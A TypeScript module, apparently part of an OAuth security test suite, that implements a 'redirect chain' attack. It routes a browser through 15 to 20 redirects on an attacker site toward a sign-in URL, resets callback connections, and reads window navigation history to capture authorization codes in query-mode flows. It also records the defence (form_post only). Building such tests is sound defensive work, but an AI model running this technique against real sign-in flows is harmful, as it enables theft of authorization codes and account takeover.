import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import {
  authorizationUrl,
  OWN_CHALLENGE,
  ownSignIn,
  RESPONSE_MODES,
  removeTheWorker,
} from '../sign-in-of-its-own.js';

/** Browsers follow 20 redirects; with this many before the sign-in, some chain ends on the redirect path's own. */
const HOPS = [15, 16, 17, 18, 19, 20];

async function goByChain(stage: Stage, hops: number, mode: string): Promise<void> {
  const target = await authorizationUrl(ownSignIn(stage, mode), OWN_CHALLENGE);
  const chain = new URL('/hop', stage.evil.site);
  chain.search = new URLSearchParams({ hops: String(hops), to: target }).toString();
  await stage.run(removeTheWorker, undefined);
  await stage.leaveFor(chain.href);
  // The person goes on in the same window; its history is the script's to read.
  await stage.visit();
  await stage.pause(100);
}

async function run(stage: Stage): Promise<void> {
  for (const hops of HOPS) await goByChain(stage, hops, 'query');
  await goByChain(stage, 18, 'form_post');
  stage.onAppRequest((req) => {
    const resets = req.url?.startsWith('/session/callback') === true;
    if (resets) req.socket.destroy();
    return resets;
  });
  for (const mode of RESPONSE_MODES) await goByChain(stage, 0, mode);
}

export const redirectChain: Attack = {
  name: 'redirect chain',
  tries:
    'chains of 15 to 20 redirects that end at the redirect path, and connections reset there; reads navigation.entries() afterwards',
  threat: '5.1.3',
  defence: 'a client that is restricted to `form_post`: no URL ever holds a code',
  weakness: {
    without: 'that restriction (response mode query)',
    deployment: { system: { responseModes: RESPONSE_MODES } },
    harmlessIn: {
      webkit: 'WebKitGTK 2.50 has no Navigation API, so a page cannot read where its window was',
    },
  },
  run,
};
